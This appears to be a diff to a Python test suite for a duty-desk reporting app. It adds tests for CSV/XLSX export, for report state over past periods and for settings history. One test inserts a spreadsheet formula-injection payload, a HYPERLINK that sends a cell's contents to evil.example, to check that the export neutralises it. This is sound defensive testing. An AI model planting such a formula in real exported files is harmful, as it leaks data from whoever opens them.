@@ -40,6 +40,7 @@ from app import (
     consultations,
     ratings,
     reports,
+    settings,
     special_services,
 )
 from app.consultations import Referral
@@ -52,6 +53,7 @@ from tests.app.duty_helpers import (
     DIRECTOR,
     LSJZ,
     YLBX,
+    MakeDesk,
     as_user,
     at,
     day,
@@ -217,7 +219,7 @@ def test_past_daily_reports_judge_open_items_on_their_own_day(make_desk, clock: 
 
 
 def test_director_report_lists_overdue_inspections_and_the_hall_grade(
-    make_desk,  # type: ignore[no-untyped-def]
+    make_desk: MakeDesk,
     clock: FakeClock,
 ) -> None:
     desk, _ = build_ledger(make_desk, clock)
@@ -277,3 +279,89 @@ def test_report_as_json(make_desk, clock: FakeClock) -> None:  # type: ignore[no
     assert data["ratings"]["satisfaction"]["label"] == "—"
     assert data["cases"]["on_time_rate"]["percent"] is None
     assert "open_cases" in text
+
+
+def test_export_neutralises_formulas_in_free_text(
+    make_desk: MakeDesk, clock: FakeClock, tmp_path: Path
+) -> None:
+    desk = duty_desk(make_desk)
+    zs, director = as_user(desk, CLERK), as_user(desk, DIRECTOR)
+    at(clock, "2026-03-10", 10)
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'
+    away.post(zs, "errand", evil, moment("2026-03-10", 11), "13800138000")
+    at(clock, "2026-03-10", 12)  # still away and late: the note is listed twice
+    d = day("2026-03-10")
+    reports.export(director, d, d, tmp_path / "r.xlsx")
+    book = load_workbook(tmp_path / "r.xlsx")
+    places = [row[3] for row in book["去向留言"].iter_rows(min_row=2)]
+    assert len(places) == 2
+    assert all(c.value == "'" + evil and c.data_type == "s" for c in places)
+    assert not [c for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+
+    reports.export(director, d, d, tmp_path / "r.csv")
+    rows = list(csv.reader((tmp_path / "r.csv").read_text(encoding="utf-8-sig").splitlines()))
+    cells = [c for row in rows for c in row if "HYPERLINK" in c]
+    assert len(cells) == 2 and all(c == "'" + evil for c in cells)
+
+    # The one place: every dangerous start, numbers untouched, stray control characters gone.
+    for text in ("+1", "-1+2", "@SUM(A1)", "\tx", "\rx", "=1"):
+        assert reports.file_cell(text) == "'" + text
+    assert reports.file_cell(-3) == -3 and reports.file_cell(None) is None
+    assert reports.file_cell("2026-03-10") == "2026-03-10" and reports.file_cell("—") == "—"
+    assert reports.file_cell("县局\x1b送件") == "县局\ufffd送件"
+
+
+def test_export_to_a_missing_folder_is_a_clear_input_error(make_desk, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    desk = duty_desk(make_desk)
+    director = as_user(desk, DIRECTOR)
+    d = day("2026-03-02")
+    for name in ("r.csv", "r.xlsx"):
+        target = tmp_path / "no such folder" / name
+        with pytest.raises(InvalidInput, match="文件夹不存在") as refused:
+            reports.export(director, d, d, target)
+        assert refused.value.field == "file" and not target.parent.exists()
+
+
+def test_a_past_period_is_reported_as_it_stood_at_its_end(
+    make_desk: MakeDesk, clock: FakeClock
+) -> None:
+    desk, no = build_ledger(make_desk, clock)  # now: 03-20 16:00, wangwu away, zhangsan covers
+    past = reports.build_report(desk.conn, day("2026-03-02"), day("2026-03-10"), desk.now())
+    lines = {o.case_no: o for o in past.open_cases}
+    # G, A and F were completed after 03-10: on 03-10 they were accepted, not 已办结.
+    assert {lines[no[k]].state for k in "GAF"} == {"accepted"}
+    assert lines[no["A"]].state_label == "已受理" and lines[no["E"]].state == "received"
+    # wangwu's cases are covered now, not at the end of 03-10 (nobody was away then).
+    assert all(o.covered_by is None for o in past.open_cases)
+    current = reports.build_report(desk.conn, day("2026-03-02"), day("2026-03-20"), desk.now())
+    assert {o.case_no: o.covered_by for o in current.open_cases} == {
+        no["D"]: CLERK,
+        no["E"]: CLERK,
+    }
+
+    # Settings changed later do not rewrite the past: the grace of 10 minutes and §32's five
+    # working days held then.
+    director = as_user(desk, DIRECTOR)
+    settings.change(director, "away_grace_minutes", 60)
+    settings.change(director, "notice_due_workdays", 1)
+    past = reports.build_report(desk.conn, day("2026-03-02"), day("2026-03-12"), desk.now())
+    assert [(a.username, a.minutes_late) for a in past.away.late_returns] == [(CLERK, 30)]
+    assert past.section32 == ()  # E (received 03-09) was undecided after 03-16 only
+    now = reports.build_report(desk.conn, day("2026-03-02"), day("2026-03-20"), desk.now())
+    assert [a.username for a in now.away.late_returns] == []  # 60 minutes' grace from today
+    assert [(x.case_no, x.kind) for x in now.section32] == [(no["E"], "undecided")]
+
+
+def test_cover_at_the_end_of_a_past_day(make_desk: MakeDesk, clock: FakeClock) -> None:
+    desk = duty_desk(make_desk)
+    zs = as_user(desk, CLERK)
+    case_no = _case(zs, LSJZ, 1)
+    clock.current = moment("2026-03-02", 23)
+    away.post(zs, "other", "夜间值班", moment("2026-03-03", 1), "13800138000")
+    clock.current = moment("2026-03-03", 0, 30)
+    away.come_back(zs)
+    at(clock, "2026-03-04")
+    first = reports.build_report(desk.conn, day("2026-03-02"), day("2026-03-02"), desk.now())
+    assert [(o.case_no, o.covered_by) for o in first.open_cases] == [(case_no, CLERK2)]
+    second = reports.build_report(desk.conn, day("2026-03-03"), day("2026-03-03"), desk.now())
+    assert [(o.case_no, o.covered_by) for o in second.open_cases] == [(case_no, None)]
